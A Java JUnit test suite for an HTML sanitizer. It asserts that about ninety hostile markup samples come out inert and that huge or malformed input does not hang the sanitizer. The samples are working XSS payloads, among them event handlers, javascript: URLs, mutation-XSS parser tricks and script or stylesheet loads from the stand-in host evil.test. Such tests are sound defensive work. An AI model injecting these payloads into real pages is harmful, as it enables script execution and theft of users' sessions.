package dev.hilo.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Markup that wants to act, or to keep the server busy; the time limit is a bound for hangs, not a measure. */
@Timeout(value = 60, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class HostileHtmlTest {

    private static final Set<String> ELEMENTS =
            Set.of(("a abbr address b big blockquote body br caption center cite code"
                            + " col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s"
                            + " samp small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var wbr")
                    .split(" "));
    private static final Set<String> ATTRIBUTES = Set.of(("align alt bgcolor border cellpadding cellspacing cite color"
                    + " colspan dir face height href lang rel rowspan scope size span src start style target title type"
                    + " valign width")
            .split(" "));
    private static final Pattern ADDRESS =
            Pattern.compile("(?:https?:|mailto:|tel:|cid:|/|#|data:image/(?:png|gif|jpeg|webp);).*");
    private static final Pattern STYLE = Pattern.compile("[^\\\\<>{}@]*");
    private static final Pattern FUNCTION = Pattern.compile("(\\w+)\\(");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
                "<script/src=//evil.test></script>",
                "<scr<script>ipt>alert(1)</script>",
                "<<script>alert(1)//<</script>",
                "\"><script>alert(1)</script>",
                "<div>x</div\0><script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\"onerror=alert(1)>",
                "<img/src=\"x\"/onerror=alert(1)>",
                "<img src=https://x.test/a.png OnErRoR=alert(1)>",
                "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
                "<img srcset=\"javascript:alert(1) 1x\">",
                "<img src=\"javascript:alert(1)\">",
                "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
                "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
                "<img src=\"data:image/png;base64,AAAA\" onload=alert(1)>",
                "<img src=\"data:image/png,<script>\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert&#40;1&#41;</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
                "<a href=\"  &#x09;javascript:x\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"vbscript:x\">x</a>",
                "<a href=\"data:text/html,<script>\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"x\" onclick=alert(1) target=\"_parent\">x</a>",
                "<a href='https://x.test/\"onmouseover=\"alert(1)'>x</a>",
                "<a href=\"https://x.test/`onmouseover=alert(1)`\">x</a>",
                "<iframe src=//evil.test></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<object data=x></object>",
                "<embed src=x>",
                "<applet code=x>",
                "<form action=//evil.test><input name=q><button formaction=javascript:x>go</button></form>",
                "<isindex action=javascript:x>",
                "<input autofocus onfocus=alert(1)>",
                "<select onfocus=alert(1)><option>x</select>",
                "<textarea onfocus=alert(1)></textarea>",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
                "<keygen autofocus>",
                "<button onclick=alert(1)>x",
                "<style>body{background:url(javascript:alert(1))}</style>",
                "<style>@import '//evil.test/x.css';</style>",
                "<link rel=stylesheet href=//evil.test>",
                "<base href=//evil.test>",
                "<meta http-equiv=refresh content=0>",
                "<body onload=alert(1) background=javascript:alert(1)>",
                "<table background=\"javascript:alert(1)\"><tr><td background=\"//evil.test/x\">x</td></tr></table>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<div style=\"background:\\75 rl(//evil.test)\">x</div>",
                "<div style=\"background:u/**/rl(//evil.test)\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<div style=\"-moz-binding:url(//evil.test)\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
                "<div style=\"color:red&quot; onclick=alert(1)\">x</div>",
                "<div style='font-family:\"a;background:url(//evil.test)\"'>x</div>",
                "<div style=\"color:red}*{background:red\">x</div>",
                "<xss style=\"behavior:url(x)\">",
                "<details open ontoggle=alert(1)>",
                "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
                "<audio src onloadstart=alert(1)>",
                "<marquee onstart=alert(1)>",
                "<p onmouseover=alert(1)>x</p>",
                "<p/onmouseover=alert(1)>x</p>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
                "<xmp><p title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
                "<title><a title=\"</title><img src onerror=alert(1)>\"></title>",
                "<template><script>x</script></template>",
                "<plaintext><img src=x onerror=alert(1)>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml version=\"1.0\"?><img src=x onerror=alert(1)?>",
                "<p title=\"x&quot;><img src=x onerror=alert(1)>\">y</p>",
                "<img title=\"{{constructor.constructor('alert(1)')()}}\" alt='\"><script>alert(1)</script>'>",
                "&lt;img src=x onerror=alert(1)&gt;<b>&lt;script&gt;</b>",
                "<b <script>alert(1)</script>0",
                "<a href=x<img src=x onerror=alert(1)>>",
                "<div id=x name=location class=modal data-x=1 hx-get=//evil.test hx-trigger=load>x</div>",
            })
    void hostile_markup_is_inert(String body) {
        assertInert(Html.clean(body));
    }

    @Test
    void markup_made_at_random_is_inert() {
        String[] pieces = {
            "<",
            ">",
            "</",
            "/>",
            "\"",
            "'",
            "`",
            "=",
            " ",
            "&",
            "&lt;",
            "&#60;",
            "&quot;",
            "<!--",
            "-->",
            "\0",
            "\n",
            "script",
            "style",
            "svg",
            "math",
            "table",
            "p",
            "a",
            "img",
            "textarea",
            "title",
            "<p ",
            "<a href=",
            "<img src=",
            " onerror=x ",
            "javascript:",
            "java\tscript:",
            "data:text/html,",
            "https://x.test/",
            " style=",
            "color:red",
            "url(",
            ")",
            "expression(",
            "\\",
            ";",
            ":",
            "x",
            "é",
            "{{",
            "]]>",
            "<![CDATA["
        };
        var random = new Random(5);
        for (int i = 0; i < 20_000; i++) {
            var body = new StringBuilder();
            for (int length = random.nextInt(30); length > 0; length--)
                body.append(pieces[random.nextInt(pieces.length)]);
            assertInert(Html.clean(body.toString()));
            Html.toText(body.toString());
        }
    }

    private static void assertInert(String clean) {
        for (var element : Jsoup.parseBodyFragment(clean).body().getAllElements()) {
            assertThat(element.normalName()).as(clean).isIn(ELEMENTS);
            for (var attribute : element.attributes()) assertInert(attribute, clean);
        }
    }

    private static void assertInert(Attribute attribute, String clean) {
        assertThat(attribute.getKey()).as(clean).isIn(ATTRIBUTES);
        String value = attribute.getValue().toLowerCase(Locale.ROOT);
        switch (attribute.getKey()) {
            case "href", "src", "cite" -> assertThat(value.strip()).as(clean).matches(ADDRESS);
            case "target" -> assertThat(value).as(clean).isEqualTo("_blank");
            case "style" -> {
                assertThat(value).as(clean).matches(STYLE).doesNotContain("position", "behavior", "binding", "/*");
                FUNCTION.matcher(value)
                        .results()
                        .forEach(found -> assertThat(found.group(1)).isIn("rgb", "rgba", "hsl", "hsla"));
            }
            default -> {}
        }
    }

    static Stream<String> megabytes() {
        return Stream.of(
                        "<div>",
                        "<div><b>",
                        "<p>",
                        "<b><p>",
                        "<table><tr><td>",
                        "<ul><li>",
                        "</div>",
                        "<b><i></b></i>",
                        "<",
                        "<a ",
                        "<a href=\"",
                        "&",
                        "&#",
                        "&aaaa",
                        "<!--",
                        "<script>",
                        "<![CDATA[",
                        "\0<b>",
                        "{{<b>",
                        "<svg><desc><div>",
                        "</td><table><span>x",
                        "<i></sub>x</head><ul><col>")
                .map(unit -> unit.repeat(1_000_000 / unit.length()));
    }

    @ParameterizedTest
    @MethodSource("megabytes")
    void a_megabyte_of_broken_markup_neither_breaks_nor_hangs(String body) {
        String clean = Html.clean(body);
        assertThat(clean.length()).isLessThan(11 * body.length());
        Html.toText(clean);
        Html.toLine(body);
    }

    @ParameterizedTest
    @ValueSource(strings = {"title=b ", "a=b ", "style='color:red' ", "onclick=x "})
    void a_tag_with_very_many_attributes_does_not_hang(String attribute) {
        String body = "<p " + attribute.repeat(1_000_000 / attribute.length()) + ">x</p>";

        String clean = Html.clean(body);

        assertThat(Html.toText(clean)).isEqualTo("x");
        assertThat(clean.length()).isLessThan(40);
    }

    @Test
    void a_style_of_a_megabyte_does_not_hang() {
        for (String unit : new String[] {"color:red;", "(", "'", "\\", "/*", "a:rgb(", "color:a ", "-"}) {
            String body = "<p style=\"" + unit.repeat(1_000_000 / unit.length()) + "\">x</p>";
            assertThat(Html.clean(body)).isEqualTo("<p>x</p>");
        }
    }

    @Test
    void crossed_tags_that_would_swell_leave_their_text() {
        String body = "<i></sub>x</head>".repeat(300) + "<ul><col>".repeat(6_000) + "<b>the end";

        String clean = Html.clean(body);
        assertThat(clean).startsWith("<div>xxx").doesNotContain("<i>").endsWith("the end</div>");
        assertThat(clean.length()).isLessThan(body.length());
    }
}
